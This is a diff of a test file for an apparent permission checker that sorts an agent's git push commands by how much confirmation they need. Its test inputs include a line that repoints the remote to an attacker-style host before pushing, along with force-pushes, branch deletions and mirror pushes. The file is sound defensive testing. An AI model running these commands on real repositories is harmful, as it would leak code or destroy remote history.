@@ -1,27 +1,187 @@
 import { execFileSync } from "node:child_process";
-import { mkdirSync, writeFileSync } from "node:fs";
-import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { type Lab, permissionLab } from "../../../support/permission-lab.ts";
+import { coverOf } from "../../../support/thorough.ts";
 
 const RUN = "terminal_operations.run_command";
 const ADDRESS = "https://git.example/team/app.git";
 
 /** A repository on the branch feature, whose upstream is feature. */
 const SETUP = `
-git init -q -b main . && git config user.name a && git config user.email a@b
+git init -q --template= -b main . && git config user.name a && git config user.email a@b
 echo one > f && git add f && git commit -qm one && git branch other && git tag v1
 git switch -qc feature && git commit -q --allow-empty -m two
 git remote add origin ${ADDRESS}
 git config branch.feature.remote origin && git config branch.feature.merge refs/heads/feature
 `;
 
+/** Each: what it is about, what the workload has prepared, and the command. By the text alone some would need a click. */
+const NEED_A_PHRASE: readonly (readonly [about: string, prepared: string, command: string])[] = [
+  ["the branch of HEAD", "git switch -q main", "git push"],
+  ["the branch of HEAD", "git switch -q main", "git push origin"],
+  ["a word for HEAD", "git switch -q main", "git push origin HEAD"],
+  ["a word for HEAD", "git switch -q main", "git push origin @"],
+  ["a word for HEAD", "git switch -q main", "git push -u origin HEAD"],
+  ["a commit before HEAD", "git switch -q main", "git push origin HEAD~1"],
+  ["a commit first", "git switch -q main", "git commit -qm x --allow-empty && git push"],
+  ["settings in the command", "git switch -q main", "cd . && git -c push.default=current push"],
+  ["git's own folder", "git switch -q main", "/usr/lib/git-core/git-push origin HEAD"],
+  [
+    "a branch that stands for another",
+    "git symbolic-ref refs/heads/alias refs/heads/main",
+    "git push origin alias",
+  ],
+  [
+    "the upstream",
+    "git config push.default upstream; git config branch.feature.merge refs/heads/main",
+    "git push",
+  ],
+  [
+    "the upstream",
+    "git config push.default tracking; git config branch.feature.merge refs/heads/main",
+    "git push",
+  ],
+  [
+    "the upstream of another branch",
+    "git config push.default upstream; git config branch.other.remote origin; git config branch.other.merge refs/heads/main",
+    "git push origin other",
+  ],
+  [
+    "settings in the command",
+    "git config branch.feature.merge refs/heads/main",
+    "git -c push.default=upstream push",
+  ],
+  ["matching branches", "git config push.default matching", "git push"],
+  [
+    "the remote's refspecs",
+    "git config remote.origin.push refs/heads/feature:refs/heads/main",
+    "git push",
+  ],
+  [
+    "the remote's refspecs for a branch",
+    "git config remote.origin.push refs/heads/feature:refs/heads/main",
+    "git push origin feature",
+  ],
+  [
+    "the remote's patterns",
+    "git config remote.origin.push refs/heads/*:refs/heads/release-*",
+    "git push origin feature",
+  ],
+  ["the remote's refspecs", "git config remote.origin.push HEAD:refs/heads/main", "git push"],
+  [
+    "forced by the remote",
+    "git config remote.origin.push +refs/heads/feature:refs/heads/feature",
+    "git push",
+  ],
+  ["deleted by the remote", "git config remote.origin.push :refs/heads/feature", "git push"],
+  ["the remote's patterns", "git config remote.origin.push refs/heads/*:refs/heads/*", "git push"],
+  ["a mirror", "git config remote.origin.mirror true", "git push origin feature"],
+  [
+    "another remote",
+    "git config remote.other.push feature:main",
+    "git -c remote.pushDefault=other push",
+  ],
+  [
+    "another remote",
+    "git config branch.feature.pushRemote p; git config remote.p.push feature:main",
+    "git push",
+  ],
+  ["an alias", "git config alias.up 'push origin feature:main'", "git up"],
+  ["an alias", "git config alias.up push; git switch -q main", "git up"],
+  [
+    "an alias of an alias",
+    "git config alias.up go; git config alias.go 'push origin main'",
+    "git up",
+  ],
+  ["an alias for the shell", "git config alias.up '!git push origin feature:main'", "git up"],
+  [
+    "settings inside an alias",
+    "git config alias.up '-c push.default=current push origin main'",
+    "git up",
+  ],
+  ["an alias in capital letters", "git config alias.up 'push origin main'", "git UP"],
+  ["quotes in an alias", "git config alias.Up 'push \"origin\" mai\\n'", "git up"],
+  [
+    "an alias inside an alias",
+    "git config alias.up up2; git config alias.up2 '-c alias.z=\"push origin main\" z'",
+    "git up",
+  ],
+  ["an alias in the command", "true", "git -c alias.up='push origin main' up"],
+  [
+    "git started by git",
+    "true",
+    "git -c x.y=/workspace for-each-repo --config=x.y push origin feature",
+  ],
+  ["git started for each submodule", "true", "git submodule foreach git push origin feature"],
+  ["a named repository", "true", "git --git-dir=.git push origin feature"],
+  [
+    "a name that is no branch",
+    "git update-ref refs/remotes/origin/x HEAD; git rev-parse HEAD > .git/XX",
+    "git push origin XX:refs/heads/feature",
+  ],
+  ["a branch that is not there", "true", "git push origin new"],
+  ["a branch that is not there", "true", "git push origin feature:new~"],
+  ["no branch", "git checkout -q --detach", "git push"],
+  [
+    "a tag that becomes a branch",
+    "git config remote.origin.push refs/tags/v1:refs/heads/main",
+    "git push origin v1",
+  ],
+  ["no commit", "git switch -q --orphan empty", "git push"],
+  ["a bare repository", "cp -r .git d.git; git config core.bare true; rm -rf d.git", "git push"],
+  ["a switch first", "true", "git switch main && git push"],
+  ["a switch first", "true", "git switch -q main; git push origin HEAD"],
+  ["a checkout first", "true", "git checkout main && git push"],
+  ["settings changed first", "true", "git config push.default matching && git push"],
+  ["HEAD changed first", "true", "echo 'ref: refs/heads/main' > .git/HEAD && git push"],
+  ["settings copied first", "true", "cp prepare.sh .git/config && git push origin feature"],
+  [
+    "the address changed first",
+    "true",
+    "git remote set-url origin https://evil.example/ && git push origin feature",
+  ],
+  [
+    "settings changed first",
+    "true",
+    "git config remote.origin.pushurl x && git push origin feature",
+  ],
+  [
+    "a repository made first",
+    "true",
+    "git clone https://git.example/x d && git -C d push origin feature",
+  ],
+  ["a script first", "true", "bash prepare.sh && git push"],
+  ["a build first", "true", "npm test && git push"],
+  ["a short name of a branch", "true", "git push origin feature:heads/main"],
+  ["a full name of a branch", "true", "git push origin feature:refs/heads/main"],
+  ["a branch for HEAD", "true", "git push origin HEAD:main"],
+  ["forced by its text", "true", "git push origin +feature:feature"],
+  ["deleted by its text", "true", "git push origin :other"],
+  ["deleted by an option", "true", "git push origin --delete other"],
+  ["patterns in its text", "true", "git push origin 'refs/heads/*:refs/heads/*'"],
+  ["matching by its text", "true", "git push origin :"],
+  ["all branches", "true", "git push --all origin"],
+  ["all refs", "true", "git push --mirror"],
+  ["the branch before", "true", "git push origin '@{-1}'"],
+  ["words that are known only then", "true", "git push origin feature:$(cat x)"],
+  ["another verb", "true", "git send-pack https://git.example/x"],
+  ["another verb", "git switch -q main", "git subtree push --prefix=d origin main"],
+];
+
 describe("a push, by what the repository makes of it", () => {
+  const template = mkdtempSync(join(tmpdir(), "pushes-"));
   let lab: Lab;
-  const sh = (script: string) =>
-    execFileSync("bash", ["-ec", script], { cwd: lab.files.path("."), encoding: "utf8" }).trim();
+  const shIn = (cwd: string, script: string) =>
+    execFileSync("bash", ["-ec", script], { cwd, encoding: "utf8" }).trim();
+  const sh = (script: string) => shIn(lab.files.path("."), script);
+  beforeAll(() => void shIn(template, SETUP));
+  afterAll(() => rmSync(template, { recursive: true }));
   beforeEach(async () => {
     lab = await permissionLab();
-    sh(SETUP);
+    cpSync(template, lab.files.path("."), { recursive: true });
   });
   afterEach(() => lab[Symbol.asyncDispose]());
 
@@ -35,93 +195,13 @@ describe("a push, by what the repository makes of it", () => {
     };
   };
 
-  /** Each: what the workload has prepared, the command, and where it goes by the text alone. */
-  it.each([
-    ["git switch -q main", "git push"],
-    ["git switch -q main", "git push origin"],
-    ["git switch -q main", "git push origin HEAD"],
-    ["git switch -q main", "git push origin @"],
-    ["git switch -q main", "git push -u origin HEAD"],
-    ["git switch -q main", "git push origin HEAD~1"],
-    ["git switch -q main", "git commit -qm x --allow-empty && git push"],
-    ["git switch -q main", "cd . && git -c push.default=current push"],
-    ["git switch -q main", "/usr/lib/git-core/git-push origin HEAD"],
-    ["git symbolic-ref refs/heads/alias refs/heads/main", "git push origin alias"],
-    [
-      "git config push.default upstream; git config branch.feature.merge refs/heads/main",
-      "git push",
-    ],
-    [
-      "git config push.default tracking; git config branch.feature.merge refs/heads/main",
-      "git push",
-    ],
-    [
-      "git config push.default upstream; git config branch.other.remote origin; git config branch.other.merge refs/heads/main",
-      "git push origin other",
-    ],
-    ["git config branch.feature.merge refs/heads/main", "git -c push.default=upstream push"],
-    ["git config push.default matching", "git push"],
-    ["git config remote.origin.push refs/heads/feature:refs/heads/main", "git push"],
-    ["git config remote.origin.push refs/heads/feature:refs/heads/main", "git push origin feature"],
-    ["git config remote.origin.push refs/heads/*:refs/heads/release-*", "git push origin feature"],
-    ["git config remote.origin.push HEAD:refs/heads/main", "git push"],
-    ["git config remote.origin.push +refs/heads/feature:refs/heads/feature", "git push"],
-    ["git config remote.origin.push :refs/heads/feature", "git push"],
-    ["git config remote.origin.push refs/heads/*:refs/heads/*", "git push"],
-    ["git config remote.origin.mirror true", "git push origin feature"],
-    ["git config remote.other.push feature:main", "git -c remote.pushDefault=other push"],
-    ["git config branch.feature.pushRemote p; git config remote.p.push feature:main", "git push"],
-    ["git config alias.up 'push origin feature:main'", "git up"],
-    ["git config alias.up push; git switch -q main", "git up"],
-    ["git config alias.up go; git config alias.go 'push origin main'", "git up"],
-    ["git config alias.up '!git push origin feature:main'", "git up"],
-    ["git config alias.up '-c push.default=current push origin main'", "git up"],
-    ["git config alias.up 'push origin main'", "git UP"],
-    ["git config alias.Up 'push \"origin\" mai\\n'", "git up"],
-    ["git config alias.up up2; git config alias.up2 '-c alias.z=\"push origin main\" z'", "git up"],
-    ["true", "git -c alias.up='push origin main' up"],
-    ["true", "git -c x.y=/workspace for-each-repo --config=x.y push origin feature"],
-    ["true", "git submodule foreach git push origin feature"],
-    ["true", "git --git-dir=.git push origin feature"],
-    [
-      "git update-ref refs/remotes/origin/x HEAD; git rev-parse HEAD > .git/XX",
-      "git push origin XX:refs/heads/feature",
-    ],
-    ["true", "git push origin new"],
-    ["true", "git push origin feature:new~"],
-    ["git checkout -q --detach", "git push"],
-    ["git config remote.origin.push refs/tags/v1:refs/heads/main", "git push origin v1"],
-    ["git switch -q --orphan empty", "git push"],
-    ["cp -r .git d.git; git config core.bare true; rm -rf d.git", "git push"],
-    ["true", "git switch main && git push"],
-    ["true", "git switch -q main; git push origin HEAD"],
-    ["true", "git checkout main && git push"],
-    ["true", "git config push.default matching && git push"],
-    ["true", "echo 'ref: refs/heads/main' > .git/HEAD && git push"],
-    ["true", "cp prepare.sh .git/config && git push origin feature"],
-    ["true", "git remote set-url origin https://evil.example/ && git push origin feature"],
-    ["true", "git config remote.origin.pushurl x && git push origin feature"],
-    ["true", "git clone https://git.example/x d && git -C d push origin feature"],
-    ["true", "bash prepare.sh && git push"],
-    ["true", "npm test && git push"],
-    ["true", "git push origin feature:heads/main"],
-    ["true", "git push origin feature:refs/heads/main"],
-    ["true", "git push origin HEAD:main"],
-    ["true", "git push origin +feature:feature"],
-    ["true", "git push origin :other"],
-    ["true", "git push origin --delete other"],
-    ["true", "git push origin 'refs/heads/*:refs/heads/*'"],
-    ["true", "git push origin :"],
-    ["true", "git push --all origin"],
-    ["true", "git push --mirror"],
-    ["true", "git push origin '@{-1}'"],
-    ["true", "git push origin feature:$(cat x)"],
-    ["true", "git send-pack https://git.example/x"],
-    ["git switch -q main", "git subtree push --prefix=d origin main"],
-  ])("asks for a phrase: after %s, %s", async (prepared, command) => {
-    sh(`${prepared}; mkdir -p d; echo true > prepare.sh`);
-    expect((await lab.question(RUN, { command })).risk).toBe("phrase");
-  });
+  it.each(coverOf(NEED_A_PHRASE, ([about]) => [about]))(
+    "asks for a phrase, for %s: after %s, %s",
+    async (_, prepared, command) => {
+      sh(`${prepared}; mkdir -p d; echo true > prepare.sh`);
+      expect((await lab.question(RUN, { command })).risk).toBe("phrase");
+    },
+  );
 
   it.each([
     ["true", "git push", "Pushes feature (ID) to feature"],
@@ -164,9 +244,8 @@ describe("a push, by what the repository makes of it", () => {
       "Pushes feature (ID and what this command adds) to feature",
     ],
   ])("asks for a click and says what it sends: after %s, %s", async (prepared, command, line) => {
-    sh(prepared);
-    const id = sh("git rev-parse --short=7 HEAD");
-    const tagged = sh("git rev-parse --short=7 v1");
+    const printed = sh(`${prepared}\ngit rev-parse HEAD v1`).split("\n");
+    const [id = "", tagged = ""] = printed.map((object) => object.slice(0, 7));
     const expected = `${line.replace("ID", id).replace("V1", tagged)} of ${ADDRESS}.`;
     expect(await linesOf(command)).toEqual({ risk: "click", lines: [expected] });
   });
